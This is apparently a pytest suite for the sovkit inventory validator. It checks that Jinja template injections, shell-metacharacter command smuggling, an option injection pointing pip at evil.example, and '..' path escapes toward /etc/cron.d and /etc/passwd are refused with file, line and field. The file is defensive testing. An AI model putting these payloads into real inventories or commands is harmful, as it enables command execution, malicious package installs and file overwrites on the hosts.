"""Finding 1 and 9: every inventory string that reaches Ansible, a host or a path is refused at validation when it
carries a template, a shell metacharacter, a newline or a '..' escape — with file:line:col, the field, and a hint
saying what the field allows.

Data-driven: FIELDS (where a value goes, a benign value for it) × PAYLOADS (what an attacker appends). The
in-process cases use ``load_inventory`` (exactly what `sovkit validate` runs); the CLI cases run the real command.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from sovkit.errors import InventoryError
from sovkit.inventory import load_inventory
from tests.conftest import INVENTORIES, run_cli

DEMO = INVENTORIES / "demo"

Setter = Callable[[dict[str, Any], str], None]


def _at(*path: str | int) -> Setter:
    def put(data: dict[str, Any], value: str) -> None:
        node: Any = data
        for part in path[:-1]:
            node = node.setdefault(part, {}) if isinstance(part, str) else node[part]
        node[path[-1]] = value
    return put


def _set(path: tuple[str | int, ...], value: str) -> Callable[[dict[str, Any]], None]:
    return lambda data: _at(*path)(data, value)


def _local_to_ssh(data: dict[str, Any]) -> None:
    data["hosts"][1]["connection"] = "ssh"
    data["hosts"][1]["root"] = "/srv/sovkit"


# field path (as the error names it) -> (setter, benign value the payload is appended to)
FIELDS: dict[str, tuple[Setter, str]] = {
    "metadata.name": (_at("metadata", "name"), "demo"),
    "hosts[0].name": (_at("hosts", 0, "name"), "npu-node-1"),
    "hosts[0].rack": (_at("hosts", 0, "rack"), "demo-rack"),
    "hosts[0].address": (_at("hosts", 0, "address"), "fe80::1%eth0"),
    "hosts[0].cpu": (_at("hosts", 0, "cpu"), "arm-neoverse-v2"),
    "hosts[0].ssh.user": (_at("hosts", 0, "ssh", "user"), "svc.ai"),
    "hosts[0].ssh.key": (_at("hosts", 0, "ssh", "key"), "keys/publisher.pub"),
    "hosts[0].ssh.known_hosts": (_at("hosts", 0, "ssh", "known_hosts"), "keys/publisher.pub"),
    "hosts[0].python_interpreter": (_at("hosts", 0, "python_interpreter"), "/opt/py3.11/bin/python3"),
    "hosts[0].root": (_at("hosts", 0, "root"), "hosts/npu-node-1"),
    "hosts[1].root": (_at("hosts", 1, "root"), "/srv/sovkit"),
    "hosts[0].accelerators[0].kind": (_at("hosts", 0, "accelerators", 0, "kind"), "rebellions-atom-max"),
    "hosts[0].accelerators[0].firmware": (_at("hosts", 0, "accelerators", 0, "firmware"), "atom-max-fw-1.2.0"),
    "trust_roots.publishers[0].public_key": (_at("trust_roots", "publishers", 0, "public_key"),
                                             "keys/publisher.pub"),
    "artifact_store.path": (_at("artifact_store", "path"), "artifacts"),
    "firmware[0].name": (_at("firmware", 0, "name"), "atom-max-fw-1.2.0"),
    "firmware[0].accelerator": (_at("firmware", 0, "accelerator"), "rebellions-atom-max"),
    "firmware[0].version": (_at("firmware", 0, "version"), "1.2.0"),
    "firmware[0].image.path": (_at("firmware", 0, "image", "path"), "firmware/atom-max-1.2.0.fw"),
    "firmware[0].signature": (_at("firmware", 0, "signature"), "firmware/atom-max-1.2.0.fw.sig"),
    "runtimes[0].name": (_at("runtimes", 0, "name"), "simnpu-serve"),
    "runtimes[0].version": (_at("runtimes", 0, "version"), "1.0.0"),
    "runtimes[0].package": (_at("runtimes", 0, "package"), "simnpu-serve"),
    "runtimes[0].artifacts[0].path": (_at("runtimes", 0, "artifacts", 0, "path"),
                                      "runtime/simnpu_serve-1.0.0-py3-none-any.whl"),
    "models[0].name": (_at("models", 0, "name"), "demo-ko-chat"),
    "models[0].version": (_at("models", 0, "version"), "1.0"),
    "models[0].publisher": (_at("models", 0, "publisher"), "sovkit-demo-lab"),
    "models[0].files[0].path": (_at("models", 0, "files", 0, "path"), "models/demo-ko-chat/1.0/config.json"),
    "models[0].signature": (_at("models", 0, "signature"), "models/demo-ko-chat/1.0/model.sig"),
    "deployments[0].name": (_at("deployments", 0, "name"), "chat-prefill"),
    "deployments[0].hosts[0]": (_at("deployments", 0, "hosts", 0), "npu-node-1"),
    "deployments[1].speculative.draft_model": (_at("deployments", 1, "speculative", "draft_model"), "demo-ko-chat"),
    "serving_groups[0].name": (_at("serving_groups", 0, "name"), "chat"),
    "serving_groups[0].prefill": (_at("serving_groups", 0, "prefill"), "chat-prefill"),
    "serving_groups[0].decode": (_at("serving_groups", 0, "decode"), "chat-decode"),
    "serving_groups[0].kv_transfer.connector": (_at("serving_groups", 0, "kv_transfer", "connector"),
                                                "P2pNcclConnector"),
    "serving_groups[0].router.host": (_at("serving_groups", 0, "router", "host"), "npu-node-2"),
}

PAYLOADS: dict[str, str] = {
    "jinja-lookup": "{{lookup('pipe','id>pwned.txt')}}",
    "jinja-statement": "{% for x in lookup('pipe','id>pwned.txt') %}{% endfor %}",
    "shell-subst": "$(id>pwned.txt)",
    "semicolon": ";id>pwned.txt",
    "backquote": "`id>pwned.txt`",
    "newline": "\nid>pwned.txt",
    "pipe": "|id",
    "space-option": " --index-url=http://evil.example/simple",
    "dotdot": "/../../../etc/cron.d/x",
}


@pytest.fixture(scope="module")
def site_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("strict") / "site"
    shutil.copytree(DEMO, root, ignore=shutil.ignore_patterns("generate.py", "*.in", ".sovkit", "hosts"))
    return root


def _write(site_dir: Path, name: str, mutate: Callable[[dict[str, Any]], None]) -> Path:
    data = yaml.safe_load((site_dir / "site.yaml").read_text())
    mutate(data)
    path = site_dir / f"case-{name}.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))
    return path


def _mutator(field: str, value: str) -> Callable[[dict[str, Any]], None]:
    setter, _ = FIELDS[field]

    def mutate(data: dict[str, Any]) -> None:
        if field == "hosts[1].root":
            _local_to_ssh(data)
        setter(data, value)
    return mutate


def _case_id(field: str, payload: str) -> str:
    return "".join(c if c.isalnum() else "_" for c in f"{field}-{payload}")


@pytest.mark.parametrize("field", FIELDS)
def test_benign_values_validate(site_dir: Path, field: str) -> None:
    """Control: each field with an ordinary (often non-default) value validates, so refusals below are the payload's."""
    _, benign = FIELDS[field]
    load_inventory(_write(site_dir, _case_id(field, "ok"), _mutator(field, benign)), check_files=False)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("field", FIELDS)
def test_payload_refused_with_location(site_dir: Path, field: str, payload: str) -> None:
    _, benign = FIELDS[field]
    path = _write(site_dir, _case_id(field, payload), _mutator(field, benign + PAYLOADS[payload]))
    with pytest.raises(InventoryError) as caught:
        load_inventory(path, check_files=False)
    mine = [p for p in caught.value.problems if p.path == field]
    assert mine, f"no problem names {field}: {[p.render() for p in caught.value.problems]}"
    problem = mine[0]
    assert problem.file == str(path) and problem.line is not None and problem.column is not None
    assert problem.hint, problem.render()
    assert "pwned" not in (problem.hint or "")


ISSUE_PAYLOAD = "simnpu-serve{{lookup('pipe','id>pwned.txt')}}"


def test_cli_validate_names_file_line_field_and_what_is_allowed(site_dir: Path) -> None:
    """The issue's own payload, through `sovkit validate`: refused, located, with the allowed pattern as hint."""
    path = _write(site_dir, "cli-package", _set(("runtimes", 0, "package"), ISSUE_PAYLOAD))
    line = next(i for i, text in enumerate(path.read_text().splitlines(), 1) if "pwned" in text)
    result = run_cli("validate", path, cwd=site_dir)
    assert result.code == 1, result.text
    assert f"{path}:{line}:" in result.err and "[runtimes[0].package]" in result.err, result.err
    assert "bare PEP 508 name" in result.err, result.err
    assert "Traceback" not in result.text
    assert not (site_dir / "pwned.txt").exists()


def test_cli_validate_refuses_every_field_of_the_issue_at_once(site_dir: Path) -> None:
    """ssh.user, python_interpreter, root and a version, all poisoned: four located problems, one run."""
    def poison(d: dict[str, Any]) -> None:
        d["hosts"][0]["ssh"] = {"user": "root{{lookup('pipe','id>pwned.txt')}}"}
        d["hosts"][0]["python_interpreter"] = "/usr/bin/python3{{lookup('pipe','id>pwned.txt')}}"
        d["hosts"][1]["root"] = "hosts/{{lookup('pipe','id>pwned.txt')}}"
        d["models"][0]["version"] = "1.0{{lookup('pipe','id>pwned.txt')}}"
    result = run_cli("validate", _write(site_dir, "cli-all", poison), cwd=site_dir)
    assert result.code == 1, result.text
    for field in ("hosts[0].ssh.user", "hosts[0].python_interpreter", "hosts[1].root", "models[0].version"):
        assert f"[{field}]" in result.err, result.err
    assert not (site_dir / "pwned.txt").exists()


# --- finding 9: path escapes ---------------------------------------------------------------------------------

def _waive_everything(d: dict[str, Any]) -> None:
    d["waivers"] = [{"rule": r, "resource": "*", "reason": "self-written", "expires": "2999-01-01"}
                    for r in ("*", "models.version", "artifacts.signed")]


def test_model_version_dotdot_refused_even_with_waivers(site_dir: Path) -> None:
    """A version is a path component on the host; '../../…' is a validation error, which no waiver reaches."""
    def mutate(d: dict[str, Any]) -> None:
        d["models"][0]["version"] = "../../../../tmp/escaped"
        _waive_everything(d)
    result = run_cli("validate", _write(site_dir, "version-dotdot", mutate), cwd=site_dir)
    assert result.code == 1, result.text
    assert "[models[0].version]" in result.err and "a version is" in result.err, result.err


def test_local_root_outside_inventory_refused(site_dir: Path) -> None:
    result = run_cli("validate", _write(site_dir, "root-escape", _set(("hosts", 0, "root"), "../elsewhere")),
                     cwd=site_dir)
    assert result.code == 1, result.text
    assert "[hosts[0].root]" in result.err and "'..'" in result.err, result.err


def test_local_root_symlink_out_of_inventory_refused(site_dir: Path, tmp_path: Path) -> None:
    """A relative root that is a symlink out of the inventory directory resolves outside it: refused."""
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    link = site_dir / "hosts-link"
    link.symlink_to(outside)
    try:
        path = _write(site_dir, "root-symlink", _set(("hosts", 0, "root"), "hosts-link/npu-node-1"))
        with pytest.raises(InventoryError) as caught:
            load_inventory(path, check_files=False)
    finally:
        link.unlink()
    problem = next(p for p in caught.value.problems if p.path == "hosts[0].root")
    assert "outside the inventory directory" in problem.message and problem.line is not None


def test_local_root_absolute_is_allowed(site_dir: Path) -> None:
    """An absolute root for a local host is the operator's explicit choice (lab fixtures use one): allowed."""
    loaded = load_inventory(_write(site_dir, "root-abs", _set(("hosts", 0, "root"), "/srv/sovkit/n1")),
                            check_files=False)
    assert loaded.host_root(loaded.site.hosts[0]) == "/srv/sovkit/n1"


def test_artifact_path_dotdot_refused(site_dir: Path) -> None:
    path = _write(site_dir, "art-dotdot",
                  _set(("models", 0, "files", 0, "path"), "../../../../etc/passwd"))
    with pytest.raises(InventoryError) as caught:
        load_inventory(path, check_files=False)
    assert any(p.path == "models[0].files[0].path" and "'..'" in p.message for p in caught.value.problems)
